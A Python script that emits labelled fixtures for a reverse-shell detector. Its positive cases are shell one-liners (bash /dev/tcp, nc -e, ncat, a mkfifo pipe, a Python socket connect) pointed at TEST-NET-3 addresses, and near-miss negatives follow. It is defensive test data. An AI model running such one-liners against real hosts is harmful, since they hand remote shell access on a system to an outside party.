#!/usr/bin/env python3
"""Emit inert detector fixtures (one payload string per line) to stdout.

Every line is plain text for pattern matching. Nothing here is executed, decoded or sent anywhere;
addresses are TEST-NET-3 (203.0.113.0/24).
"""
from __future__ import annotations

import sys

# (label, expected_detection, payload text)
CASES: list[tuple[str, bool, str]] = [
    ("bash-devtcp", True, "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"),
    ("sh-devudp", True, "sh -i >& /dev/udp/203.0.113.10/53 0>&1"),
    ("nc-e", True, "nc -e /bin/sh 203.0.113.11 9001"),
    ("ncat-e", True, "ncat 203.0.113.11 9001 -e /bin/bash"),
    ("mkfifo", True, "rm /tmp/f; mkfifo /tmp/f; nc 203.0.113.12 443 </tmp/f"),
    ("py-socket", True, "import socket;s=socket.socket();s.connect(('203.0.113.13',8080))"),
    # negatives: near misses that must not fire
    ("devtcp-path-word", False, "GET /dev/tcp-monitoring/dashboard HTTP/1.1"),
    ("ncdu", False, "ncdu --exclude /bin"),
    ("docs-mention", False, "see the /dev/tcp section of the bash manual"),
]


def main() -> int:
    out = sys.stdout
    out.write("# label\texpected\tpayload (inert test data, do not execute)\n")
    for label, expected, payload in CASES:
        if "\t" in payload or "\n" in payload:
            print(f"fixture {label} contains a tab/newline", file=sys.stderr)
            return 1
        out.write(f"{label}\t{'hit' if expected else 'miss'}\t{payload}\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
